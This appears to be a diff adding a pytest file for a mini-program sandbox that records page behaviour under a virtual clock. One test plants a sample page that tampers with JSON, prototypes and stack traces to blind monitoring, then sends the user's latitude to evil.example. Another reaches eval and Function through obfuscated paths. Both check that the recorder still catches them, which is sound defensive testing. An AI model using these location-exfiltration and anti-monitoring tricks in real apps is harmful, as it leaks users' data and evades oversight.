@@ -1,0 +1,183 @@
+"""Virtual clock and timers, determinism, error routing, console capture, isolation of the bridge."""
+
+from __future__ import annotations
+
+import time
+
+from mpsandbox.runtime.sandbox import EPOCH_MS, Sandbox
+
+from .fakebundle import make_bundle
+from .helpers import console_lines, run_pages
+
+
+def test_long_timers_fire_at_once_on_the_virtual_clock(engine_name):
+    page = """Page({ onLoad() {
+        const t0 = Date.now();
+        setTimeout(() => console.log('60s later', Date.now() - t0), 60000);
+        setTimeout((a, b) => console.log('args', a, b), 10, 'x', 2);
+        let n = 0; const id = setInterval(() => { n++; console.log('tick', n, Date.now() - t0); if (n === 3) clearInterval(id) }, 1000);
+        const cancelled = setTimeout(() => console.log('never'), 5); clearTimeout(cancelled);
+        console.log('id type', typeof id);
+    } })"""
+    start = time.perf_counter()
+    trace = run_pages({"pages/p/p": page}, engine=engine_name)
+    assert time.perf_counter() - start < 5
+    assert console_lines(trace) == [
+        "id type number", "args x 2", "tick 1 1000", "tick 2 2000", "tick 3 3000", "60s later 60000",
+    ]
+    assert trace.end.t == 60000
+
+
+def test_date_is_virtual_and_local_time_is_fixed_utc_plus_8(engine_name):
+    page = """Page({ onLoad() {
+        const d = new Date();
+        console.log(Date.now(), d.getTime(), d.getHours(), d.getTimezoneOffset(), d.toISOString());
+        console.log(new Date(2024, 0, 1, 9, 30).toISOString(), Date.parse('2024-01-01T09:30:00'), Date.parse('2024-01-01'));
+        console.log(new Date(0).toString(), String(Date()).slice(0, 15), typeof performance.now());
+        const e = new Date(0); e.setHours(10); console.log(e.toISOString(), e instanceof Date);
+    } })"""
+    trace = run_pages({"pages/p/p": page}, engine=engine_name)
+    lines = console_lines(trace)
+    assert lines[0] == f"{EPOCH_MS} {EPOCH_MS} 8 -480 2025-01-01T00:00:00.000Z"
+    assert lines[1] == "2024-01-01T01:30:00.000Z 1704072600000 1704067200000"
+    assert lines[2] == "Thu Jan 01 1970 08:00:00 GMT+0800 (China Standard Time) Wed Jan 01 2025 number"
+    assert lines[3] == "1970-01-01T02:00:00.000Z true"
+
+
+def test_same_seed_gives_identical_trace_and_other_seed_differs(engine_name):
+    page = """Page({ data: {}, onLoad() {
+        this.setData({ r: Math.random(), t: Date.now() });
+        tt.getLocation({ success: r => console.log('loc', r.latitude, Math.random()) });
+        setTimeout(() => console.log('later', Math.random()), 100);
+    } })"""
+
+    def once(seed: int) -> str:
+        with Sandbox(make_bundle({"pages/p/p": page}), engine=engine_name, seed=seed) as sb:
+            sb.launch()
+            return sb.finish().model_dump_json()
+
+    assert once(7) == once(7)
+    assert once(7) != once(8)
+
+
+def test_uncaught_errors_go_to_app_on_error_with_bundle_location(engine_name):
+    app = "App({ onError(msg) { console.log('onError:', msg.split('\\n')[0]) } })"
+    page = "Page({\n  onLoad() {\n    null.x\n  }\n})"
+    trace = run_pages({"pages/p/p": page}, app_js=app, engine=engine_name)
+    (err,) = [e for e in trace.of_kind("error")]
+    assert err.error == "uncaught" and err.name == "TypeError" and err.handled_by == "App.onError"
+    assert err.source == "Page.onLoad"
+    assert (err.stack[0].file, err.stack[0].line) == ("pages/p/p.js", 3)
+    assert console_lines(trace)[0].startswith("onError: cannot read property")
+
+
+def test_errors_in_callbacks_timers_and_on_error_itself(engine_name):
+    app = "App({ onError() { throw new Error('handler broke') } })"
+    page = """Page({ onLoad() {
+        setTimeout(() => { throw new Error('in timer') }, 1);
+        tt.getLocation({ success() { throw new Error('in callback') }, complete() { console.log('complete still runs') } });
+    } })"""
+    trace = run_pages({"pages/p/p": page}, app_js=app, engine=engine_name)
+    errors = [(e.message, e.source) for e in trace.of_kind("error")]
+    assert ("in timer", "timer") in errors
+    assert ("in callback", "api-callback:getLocation") in errors
+    assert ("handler broke", "App.onError") in errors
+    assert "complete still runs" in console_lines(trace)
+
+
+def test_unhandled_rejections_reach_app_and_handled_ones_do_not(engine_name):
+    app = "App({ onUnhandledRejection(r) { console.log('rejected:', r.reason && r.reason.message) } })"
+    page = """Page({ async onLoad() {
+        Promise.reject(new Error('handled')).catch(() => {});
+        (async () => { throw new Error('fire and forget') })();
+        await null;
+        throw new Error('async onLoad');
+    } })"""
+    trace = run_pages({"pages/p/p": page}, app_js=app, engine=engine_name)
+    rejected = [e.message for e in trace.of_kind("error") if e.error == "unhandled-rejection"]
+    assert sorted(rejected) == ["async onLoad", "fire and forget"]
+    assert sorted(console_lines(trace)) == ["rejected: async onLoad", "rejected: fire and forget"]
+
+
+def test_console_is_captured_with_levels_and_safe_formatting(engine_name):
+    page = """Page({ onLoad() {
+        const o = { a: 1 }; o.self = o;
+        console.log('obj', o, [1, 2], null, undefined, 3);
+        console.warn('w'); console.error(new TypeError('bad'));
+        console.info('中文');
+    } })"""
+    trace = run_pages({"pages/p/p": page}, engine=engine_name)
+    events = trace.of_kind("console")
+    assert [(e.level, e.text) for e in events] == [
+        ("log", 'obj {"a":1,"self":"[Circular]"} [1,2] null undefined 3'),
+        ("warn", "w"),
+        ("error", "TypeError: bad"),
+        ("info", "中文"),
+    ]
+
+
+def test_bridge_and_framework_entry_points_are_unreachable(engine_name):
+    page = """Page({ onLoad() {
+        const names = Object.getOwnPropertyNames(globalThis);
+        console.log(names.filter(n => /mpsb|host/i.test(n)).join(',') || 'none');
+        console.log(typeof __mpsb_entry, typeof __mpsb_boot, typeof WeakRef, typeof FinalizationRegistry);
+        'use strict';
+        try { tt.request = () => 0 } catch (e) {}
+        console.log(tt.request.name, Object.isFrozen(tt));
+        try { Object.defineProperty(globalThis, 'tt', { value: {} }) } catch (e) { console.log('tt locked') }
+        try { Page = null } catch (e) {}
+        console.log(typeof Page);
+    } })"""
+    trace = run_pages({"pages/p/p": page}, engine=engine_name)
+    assert console_lines(trace) == ["none", "undefined undefined undefined undefined", "request true", "tt locked", "function"]
+
+
+def test_tampering_does_not_blind_the_recording(engine_name):
+    page = """
+JSON.stringify = () => '{}';
+JSON.parse = () => ({});
+Array.prototype.push = function () { throw new Error('no push') };
+Object.defineProperty(Object.prototype, 'success', { get() { console.log('getter ran'); return undefined }, configurable: true });
+Error.prepareStackTrace = () => 'hidden';
+Page({ onLoad() {
+    const k = 'get' + 'Location';
+    tt[k]({ success(r) { tt.request({ url: 'https://evil.example/x?lat=' + r.latitude }) } });
+    tt.setStorageSync('k', { v: 1 });
+    console.log('stored', tt.getStorageSync('k').v);
+} })"""
+    trace = run_pages({"pages/p/p": page}, engine=engine_name)
+    calls = [(e.api, e.called_as) for e in trace.api_calls()]
+    assert ("getLocation", "tt.getLocation") in calls
+    req = trace.api_calls("request")[0]
+    assert req.args[0]["url"].startswith("https://evil.example/x?lat=")
+    assert req.stack and req.stack[0].file == "pages/p/p.js"
+    assert "stored 1" in console_lines(trace)
+    assert "getter ran" not in console_lines(trace)
+
+
+def test_dynamic_code_is_recorded_however_it_is_reached(engine_name):
+    page = """Page({ onLoad() {
+        const tries = [
+          () => eval('1'), () => (0, eval)('2'), () => globalThis['ev' + 'al']('3'), () => new Function('return 4')(),
+          () => (function () {}).constructor('return 5')(), () => Object.getPrototypeOf(async function () {}).constructor('6'),
+          () => setTimeout('alert(7)', 1), () => Function('return this')(),
+        ];
+        for (const t of tries) { try { t() } catch (e) {} }
+    } })"""
+    trace = run_pages({"pages/p/p": page}, engine=engine_name)
+    notes = [e.data for e in trace.of_kind("note") if e.code == "dynamic-code"]
+    assert [n["what"] for n in notes] == ["eval", "eval", "eval", "Function", "Function", "AsyncFunction",
+                                          "setTimeout-string", "Function"]
+    assert [n["code"] for n in notes][:5] == ["1", "2", "3", "return 4", "return 5"]
+    assert all("pages/p/p.js" in n["stack"][0] for n in notes)
+
+
+def test_unknown_api_is_recorded_and_behaves_as_on_the_platform(engine_name):
+    page = """Page({ onLoad() {
+        console.log(typeof tt.noSuchApi, 'noSuchApi' in tt);
+        try { tt.noSuchApi() } catch (e) { console.log(e.name) }
+    } })"""
+    trace = run_pages({"pages/p/p": page}, engine=engine_name)
+    assert console_lines(trace) == ["undefined false", "TypeError"]
+    unknown = [e for e in trace.api_calls() if e.outcome == "unknown"]
+    assert {e.api for e in unknown} == {"noSuchApi"} and len(unknown) == 2  # two call sites
